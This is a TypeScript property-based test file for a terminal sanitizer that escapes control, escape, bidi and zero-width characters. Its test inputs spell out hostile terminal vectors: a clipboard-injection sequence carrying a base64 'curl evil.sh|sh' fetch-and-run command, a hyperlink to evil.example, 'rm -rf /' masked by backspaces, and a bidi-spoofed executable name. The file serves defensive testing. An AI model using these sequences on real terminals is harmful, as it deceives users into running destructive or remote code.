import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { PROPERTY_TIMEOUT, runs } from "../../test/helpers/property.js";
import { hasUnsafeCharacters, sanitizeLine, sanitizeText } from "./sanitize.js";

describe("terminal sanitizer", () => {
  it.each([
    ["plain text", "Fix login", "Fix login"],
    ["escape sequences become visible", "\x1b]0;PWNED\x07\x1b[2J", "\\x1b]0;PWNED\\x07\\x1b[2J"],
    ["carriage return", "safe text\rEVIL", "safe text\\rEVIL"],
    ["C1 control", "a\u009bb", "a\\x9bb"],
    ["bidi override", "invoice\u202Egpj.exe", "invoice<U+202E>gpj.exe"],
    ["zero-width space", "ad\u200Bmin", "ad<U+200B>min"],
    ["newline on one line", "a\nb", "a\\nb"],
    ["lone surrogate", "a\ud800b", "a<U+D800>b"],
    ["emoji pair kept", "ship 🚀", "ship 🚀"],
  ])("sanitizeLine: %s", (_name, input, expected) => {
    expect(sanitizeLine(input)).toBe(expected);
  });

  it("keeps newlines and tabs in text blocks, normalises CRLF, escapes the rest", () => {
    expect(sanitizeText("a\r\nb\tc\x1b[31m")).toBe("a\nb\tc\\x1b[31m");
  });
});

describe("terminal sanitizer on any input", () => {
  const unsafeLine = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
  const anyText = fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 40 });

  it("never lets a control, bidi or lone surrogate character through, and keeps safe text as is", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const line = sanitizeLine(text);
        expect(line).not.toMatch(unsafeLine);
        expect(sanitizeText(text).replace(/[\n\t]/g, "")).not.toMatch(unsafeLine);
        if (!unsafeLine.test(text)) expect(line).toBe(text);
        expect(hasUnsafeCharacters(text)).toBe(unsafeLine.test(text));
      }),
      runs(300),
    );
  }, PROPERTY_TIMEOUT);
});

describe("terminal sanitizer: the hostile vectors of reliability.md T1-T6, exactly", () => {
  it.each([
    ["T1 title and clear screen", "\x1b]0;PWNED\x07\x1b[2J", "\\x1b]0;PWNED\\x07\\x1b[2J"],
    ["T2 OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\Fix login\x1b]8;;\x1b\\", "\\x1b]8;;https://evil.example/\\x1b\\Fix login\\x1b]8;;\\x1b\\"],
    ["T3 OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07"],
    ["T4 a sequence that reappears when stripped", "\x1b\x1b[0m[2J", "\\x1b\\x1b[0m[2J"],
    ["T4 an unterminated OSC", "x\x1b]0;no terminator", "x\\x1b]0;no terminator"],
    ["T5 carriage return", "safe text\rEVIL", "safe text\\rEVIL"],
    ["T5 backspaces", "rm -rf /\b\b\bls", "rm -rf /\\x08\\x08\\x08ls"],
    ["T6 bidi override", "invoice\u202egpj.exe", "invoice<U+202E>gpj.exe"],
    ["T6 isolates, marks, zero-width, BOM", "\u2066a\u2069\u200e\u200f\u061c\u200b\u200d\ufeff", "<U+2066>a<U+2069><U+200E><U+200F><U+061C><U+200B><U+200D><U+FEFF>"],
    ["C1 CSI", "a\u009b31mb", "a\\x9b31mb"],
    ["line separators", "a\u2028b\u2029c", "a<U+2028>b<U+2029>c"],
  ])("%s", (_name, input, output) => {
    expect(sanitizeLine(input)).toBe(output);
  });
});

describe("terminal sanitizer: structure on any input", () => {
  const codePoints = fc.string({ unit: "binary", maxLength: 30 });
  const escapes = fc.array(fc.constantFrom("\x1b", "[", "]", "0;", "2J", "\x07", "\\", "m", "\r", "\n", "\t", "\u202e", "\u009b", "x"), { maxLength: 12 }).map((parts) => parts.join(""));
  const text = fc.oneof(codePoints, escapes);

  it("escapes character by character: no sequence survives or forms across a boundary (T4), and a second pass changes nothing", () => {
    fc.assert(
      fc.property(text, text, (a, b) => {
        expect(sanitizeLine(a + b)).toBe(sanitizeLine(a) + sanitizeLine(b));
        expect(sanitizeLine(sanitizeLine(a))).toBe(sanitizeLine(a));
        expect(sanitizeText(sanitizeText(a))).toBe(sanitizeText(a));
      }),
      runs(500),
    );
  }, PROPERTY_TIMEOUT);

  it("hides nothing: every character of the input is still there, itself or as its escape", () => {
    fc.assert(
      fc.property(text, (input) => {
        const shown = sanitizeLine(input);
        expect(shown.length).toBeGreaterThanOrEqual(input.length);
        const kept = [...input].filter((ch) => !hasUnsafeCharacters(ch)).join("");
        expect(shown.replace(/\\x[0-9a-f]{2}|\\[nrt]|<U\+[0-9A-F]{4}>/g, "")).toBe(kept.replace(/\\x[0-9a-f]{2}|\\[nrt]|<U\+[0-9A-F]{4}>/g, ""));
      }),
      runs(500),
    );
  }, PROPERTY_TIMEOUT);
});
